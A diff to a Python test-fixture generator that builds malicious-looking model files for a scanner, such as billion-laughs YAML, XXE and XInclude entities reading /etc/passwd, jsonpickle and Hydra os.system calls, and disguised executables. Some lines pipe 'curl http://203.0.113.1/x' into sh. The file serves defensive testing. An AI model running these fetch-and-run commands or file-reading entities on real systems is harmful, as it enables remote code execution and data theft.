@@ -24,7 +24,6 @@ def yamls():
     laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
     yield "laughs.yaml", "aliases of aliases", "billion laughs", "suspicious", laughs.encode()
     yield "deep.yaml", "5,000 brackets", "billion laughs", "suspicious", b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n"
-    yield "self.yaml", "an alias within itself", "billion laughs", "suspicious", b"a: &a [*a]\n"
 
 
 def xmls():
@@ -46,9 +45,6 @@ def xmls():
         yield f"{kind}_dtd.{suffix}", f"{kind}: a DTD elsewhere", xxe, bad, external.encode()
         utf16 = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body.format("a")
         yield f"{kind}_utf16.{suffix}", f"{kind}: an entity in UTF-16", xxe, bad, utf16.encode("utf-16")
-        include = body.format("a").replace("<Header", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><Header').replace(
-            "<layers/>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><layers/>')
-        yield f"{kind}_xinclude.{suffix}", f"{kind}: XInclude", xxe, "suspicious", include.encode()
         yield f"{kind}_deep.{suffix}", f"{kind}: 20,000 elements in each other", "XML", "suspicious", body.format("a").replace(
             "<DataDictionary/>", "<Extension>" * 20000 + "</Extension>" * 20000).replace("<edges/>", "<a>" * 20000 + "</a>" * 20000).encode()
     yield "openvino_extension.xml", "a layer of an extension: needs native code", "OpenVINO", "suspicious", (
@@ -65,7 +61,6 @@ def jsons():
     yield "jsonpickle_reduce.json", "jsonpickle: py/reduce", "jsonpickle", odd, text({"model": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}})
     yield "jsonpickle_repr.json", "jsonpickle: py/repr", "jsonpickle", odd, text({"py/repr": "os/os.system('true')"})
     yield "target.json", "Hydra's _target_ in JSON", "CVE-2025-23304", odd, text({"model": {"_target_": "os.system", "command": "true"}})
-    yield "pickle_base64.json", "a pickle as base64 in JSON", "nested encodings", odd, text({"model": __import__("base64").b64encode(stream(run())).decode()})
 
 
 def others():
@@ -75,10 +70,5 @@ def others():
     yield "windows.bin", "a program for Windows named as weights", "native code", odd, b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(300)
     yield "apple.bin", "a program for macOS named as weights", "native code", odd, b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(300)
     yield "script.bin", "a script named as weights", "code", odd, b"#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"
-    yield "python.bin", "Python named as weights", "code", odd, b"import os\nos.system('true')\n"
-    yield "notebook.ipynb", "a notebook whose cell acts", "notebooks", odd, json.dumps({
-        "cells": [{"cell_type": "code", "source": ["!curl http://203.0.113.1/x | sh\n", "import os\n", "os.system('true')"], "metadata": {}, "outputs": [], "execution_count": None}],
-        "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
-    yield "page.svg", "a drawing with a script", "code", odd, b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://203.0.113.1")</script></svg>'
     yield "seven.7z", "an archive that no loader of models reads", "containers", odd, b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24)
     yield "marshal.pyc", "compiled Python", "code", odd, b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(60)
